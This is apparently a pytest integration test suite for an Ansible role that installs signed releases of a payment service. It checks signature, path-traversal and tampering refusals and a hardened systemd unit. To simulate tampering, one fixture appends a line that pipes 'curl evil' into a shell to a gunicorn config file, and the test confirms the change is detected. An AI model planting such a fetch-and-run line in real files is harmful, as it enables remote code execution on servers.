"""The release role's install entry point (and configure, for the env and program files) with ansible-playbook against
a throw-away HTTP server, each "host" a temporary directory used as its root. One run installs a good signed release
and refuses, before anything is unpacked, a release signed by another key and one whose archive holds a '../' member
(an unsigned release is refused by the module's unit tests); a re-run re-checks and changes nothing; a changed file
or a missing install record is refused."""

from __future__ import annotations

import grp
import hashlib
import json
import os
import pwd
import shutil
import stat
import subprocess
import typing as t
from pathlib import Path

import pytest
from conftest import GOOD, TRAVERSAL, WRONG_KEY, failure, recap, run_install

NAME = "payment-service"
TAMPERED = "gunicorn.conf.py"


def release_dir(root: Path, version: str) -> Path:
    return root / "opt" / "payments" / "releases" / version


class World(t.NamedTuple):
    tmp: Path
    roots: dict[str, Path]
    common: dict[str, t.Any]


@pytest.fixture(scope="module")
def world(releases, service_user, collections_dir, tmp_path_factory) -> World:
    tmp = tmp_path_factory.mktemp("release-install")
    roots = {name: tmp / "hosts" / name for name in ("good", "wrong_key", "traversal", "tampered", "no_record")}
    common = {"release_artifact_base_url": releases.base_url, "release_signature_public_keys": [releases.public_key],
              "release_service_user": service_user.name}
    return World(tmp, roots, common)


def host(world: World, name: str, version: str, **variables: t.Any) -> dict[str, t.Any]:
    return {name: {"payments_root": str(world.roots[name]), "release_version": version, **variables}}


@pytest.fixture(scope="module")
def first_run(world, collections_dir):
    # Only "good" may create the service user: the other hosts run as the current user, so that no two hosts create
    # one user at the same time. deploy_environment is not set: production, where a signature is required.
    me = pwd.getpwuid(os.geteuid()).pw_name
    hosts = {**host(world, "good", GOOD, configure=True),
             **host(world, "wrong_key", WRONG_KEY, release_service_user=me),
             **host(world, "traversal", TRAVERSAL, release_service_user=me, release_signature_required=False)}
    return run_install(collections_dir, world.tmp / "first", hosts, **world.common)


def test_good_release_is_installed_with_its_record(world, releases, first_run):
    assert recap(first_run.stdout)["good"]["failed"] == 0, first_run.stdout
    directory = release_dir(world.roots["good"], GOOD)
    record = json.loads((directory / ".release-record.json").read_text())
    artifact = releases.directory / f"{NAME}-{GOOD}.tar.gz"
    assert record["artifact_sha256"] == hashlib.sha256(artifact.read_bytes()).hexdigest()
    assert record["signature_key_id"] == releases.key_id
    assert json.loads((directory / "manifest.json").read_text())["version"] == GOOD
    manifest_sha256 = hashlib.sha256((directory / "manifest.json").read_bytes()).hexdigest()
    assert record["files"]["manifest.json"]["sha256"] == manifest_sha256
    assert not (directory.parent / f".incoming-{GOOD}").exists()


def test_release_files_belong_to_root_and_are_read_only_to_the_service(world, first_run):
    assert recap(first_run.stdout)["good"]["failed"] == 0, first_run.stdout
    directory = release_dir(world.roots["good"], GOOD)
    entries = [directory, *directory.rglob("*")]
    assert {(path.lstat().st_uid, path.lstat().st_gid) for path in entries} == {(0, 0)} or os.geteuid() != 0
    modes = {(path.is_dir(), stat.S_IMODE(path.lstat().st_mode)) for path in entries if not path.is_symlink()}
    assert modes == {(True, 0o755), (False, 0o644)}


def test_service_user_is_created_and_reads_its_env_file_through_its_group(world, service_user, first_run):
    assert recap(first_run.stdout)["good"]["failed"] == 0, first_run.stdout
    user = pwd.getpwnam(service_user.name)
    env_file = world.roots["good"] / "etc" / "payments" / f"{NAME}-blue.env"
    info = env_file.stat()
    assert stat.S_IMODE(info.st_mode) == 0o640
    assert info.st_gid == user.pw_gid
    assert 'GREETING="a \\"quoted\\" value"' in env_file.read_text()
    program = (world.roots["good"] / "etc" / "supervisor" / "conf.d" / f"{NAME}-blue.conf").read_text()
    if not service_user.created_by_role:
        assert "user=" not in program  # the service runs as the user running the supervisor, as before
        pytest.skip("not running as root: the service user is the current user, not one the role creates")
    assert info.st_uid == 0
    assert user.pw_shell == "/usr/sbin/nologin" and user.pw_uid < 1000
    assert grp.getgrgid(user.pw_gid).gr_name == service_user.name
    assert f"\nuser={service_user.name}\n" in program


def test_release_signed_by_another_key_is_refused_before_unpacking(world, releases, first_run):
    assert recap(first_run.stdout)["wrong_key"]["failed"] == 1
    message = failure(first_run.stdout, "wrong_key")
    assert f"which is not a trusted key (trusted: {releases.key_id}); nothing was unpacked" in message
    assert list(release_dir(world.roots["wrong_key"], WRONG_KEY).parent.iterdir()) == []
    # the refused artifact is not left under its final name, where it would look like one that passed
    assert list((release_dir(world.roots["wrong_key"], WRONG_KEY).parent.parent / "artifacts").glob("*.tar.gz")) == []
    assert "The refused artifact was removed" in first_run.stdout


def test_archive_with_a_parent_member_is_refused(world, first_run):
    assert recap(first_run.stdout)["traversal"]["failed"] == 1
    # The YAML callback doubles the quotes inside the message.
    assert "/../escaped'' holds ''..''; nothing was unpacked" in failure(first_run.stdout, "traversal")
    root = world.roots["traversal"]
    assert list(release_dir(root, TRAVERSAL).parent.iterdir()) == []
    assert not list(world.tmp.rglob("escaped"))


@pytest.fixture(scope="module")
def second_run(world, collections_dir, first_run):
    """A re-run of "good", and of two copies of it: "tampered" (one file changed) and "no_record" (its release lost its
    record, as one unpacked by an older role)."""
    assert recap(first_run.stdout)["good"]["failed"] == 0, first_run.stdout
    for name in ("tampered", "no_record"):
        shutil.copytree(world.roots["good"], world.roots[name], symlinks=True)
    (release_dir(world.roots["no_record"], GOOD) / ".release-record.json").unlink()
    with (release_dir(world.roots["tampered"], GOOD) / TAMPERED).open("a") as handle:
        handle.write("import os; os.system('curl evil | sh')\n")
    hosts = {**host(world, "good", GOOD, configure=True), **host(world, "tampered", GOOD),
             **host(world, "no_record", GOOD)}
    return run_install(collections_dir, world.tmp / "second", hosts, **world.common)


def test_rerun_rechecks_and_changes_nothing(second_run):
    counts = recap(second_run.stdout)["good"]
    assert (counts["changed"], counts["failed"]) == (0, 0), second_run.stdout


def test_changed_file_in_an_installed_release_is_refused(world, second_run):
    assert recap(second_run.stdout)["tampered"]["failed"] == 1
    message = failure(second_run.stdout, "tampered")
    assert f"the release directory {release_dir(world.roots['tampered'], GOOD)} is refused" in message
    assert f"its files no longer match its install record (changed: {TAMPERED})" in message
    # Refused, not repaired: the directory is left for a look at what changed.
    assert "curl evil" in (release_dir(world.roots["tampered"], GOOD) / TAMPERED).read_text()


def test_release_without_a_record_is_refused(second_run):
    assert recap(second_run.stdout)["no_record"]["failed"] == 1
    assert "it has no install record (.release-record.json)" in failure(second_run.stdout, "no_record")


@pytest.fixture(scope="module")
def systemd_run(world, collections_dir, tmp_path_factory):
    """The same release, configured for systemd: a unit per colour and a root-only env file."""
    root = tmp_path_factory.mktemp("systemd-host")
    world.roots["systemd"] = root
    me = pwd.getpwuid(os.geteuid()).pw_name
    hosts = host(world, "systemd", GOOD, configure=True, release_service_manager="systemd",
                 release_service_user=me, release_runtime_bin_dir=str(Path(shutil.which("python3")).parent))
    return run_install(collections_dir, world.tmp / "systemd", hosts, **world.common)


def test_systemd_unit_is_hardened_and_passes_systemd_analyze(world, systemd_run):
    assert recap(systemd_run.stdout)["systemd"]["failed"] == 0, systemd_run.stdout
    root = world.roots["systemd"]
    unit = root / "etc" / "systemd" / "system" / f"{NAME}-blue.service"
    assert not (root / "etc" / "supervisor" / "conf.d" / f"{NAME}-blue.conf").exists()
    settings: dict[str, list[str]] = {}
    for line in unit.read_text().splitlines():
        if "=" in line and not line.startswith("#"):
            key, value = line.split("=", 1)
            settings.setdefault(key, []).append(value)
    me = pwd.getpwuid(os.geteuid()).pw_name
    assert settings["User"] == [me] and settings["KillSignal"] == ["SIGTERM"] and settings["KillMode"] == ["mixed"]
    for option in ("NoNewPrivileges", "ProtectHome", "PrivateTmp", "PrivateDevices", "ProtectKernelTunables",
                   "ProtectKernelModules", "ProtectControlGroups", "RestrictSUIDSGID", "LockPersonality"):
        assert settings[option] == ["yes"], option
    assert settings["ProtectSystem"] == ["strict"] and settings["CapabilityBoundingSet"] == [""]
    env_file = root / "etc" / "payments" / f"{NAME}-blue.env"
    assert settings["LoadCredential"] == [f"env:{env_file}"]
    assert stat.S_IMODE(env_file.stat().st_mode) == 0o600  # root's alone: systemd hands the service a copy
    analyze = shutil.which("systemd-analyze")
    if analyze is None:
        pytest.fail("systemd-analyze is missing: Debian's systemd package (make system-packages) provides it")
    done = subprocess.run([analyze, "verify", str(unit)], capture_output=True, text=True, timeout=60, check=False,
                          env={**os.environ, "SYSTEMD_LOG_LEVEL": "notice"})
    # It exits 0 even on parse warnings: the unit passes only when nothing at all is printed.
    assert (done.returncode, done.stdout + done.stderr) == (0, ""), done.stdout + done.stderr


def test_an_unknown_service_manager_is_refused_before_anything_is_written(world, collections_dir, tmp_path_factory):
    root = tmp_path_factory.mktemp("bad-manager-host")
    world.roots["bad_manager"] = root
    done = run_install(collections_dir, world.tmp / "bad-manager",
                       host(world, "bad_manager", GOOD, configure=True, release_service_manager="upstart"), **world.common)
    assert recap(done.stdout)["bad_manager"]["failed"] == 1
    message = failure(done.stdout, "bad_manager")
    assert "release_service_manager" in message and "systemd, supervisor" in message and "upstart" in message, message
    assert not list(root.rglob("*.service")) and not (root / "etc" / "payments").exists()
